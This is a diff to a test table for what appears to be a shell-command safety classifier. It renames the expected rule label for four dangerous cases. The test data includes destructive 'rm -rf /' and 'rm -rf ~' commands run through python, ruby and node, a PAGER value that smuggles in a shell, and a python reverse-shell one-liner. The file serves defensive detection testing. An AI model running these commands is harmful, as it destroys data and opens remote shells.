@@ -583,7 +583,7 @@ const CASES: &[(&str, Class, &str)] = &[
     (
         "python3 -c 'import os; os.system(\"rm -rf /\")'",
         D,
-        "exec.embedded-shell",
+        "exec.interpreter-effect",
     ),
     ("ruby -e '`rm -rf /`'", D, "exec.embedded-shell"),
     ("python3 -c 'print(1)'", N, "exec.interpreter-code"),
@@ -922,7 +922,7 @@ const CASES: &[(&str, Class, &str)] = &[
     (
         "node -e \"require('child_process').execSync('rm -rf ~')\"",
         D,
-        "exec.embedded-shell",
+        "exec.interpreter-effect",
     ),
     (
         "env PAGER='sh -c \"rm -rf ~\"' git log",
@@ -969,7 +969,7 @@ const CASES: &[(&str, Class, &str)] = &[
     (
         "python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"h\",1));pty.spawn(\"/bin/sh\")'",
         D,
-        "exec.embedded-shell",
+        "exec.interpreter-effect",
     ),
     (
         "git config --local core.hooksPath /tmp/h",
@@ -1034,7 +1034,7 @@ const CASES: &[(&str, Class, &str)] = &[
     (
         "python3 - <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF",
         D,
-        "exec.embedded-shell",
+        "exec.interpreter-effect",
     ),
     // ----- other normal commands -----
     ("make", N, "readonly.not-allow-listed"),
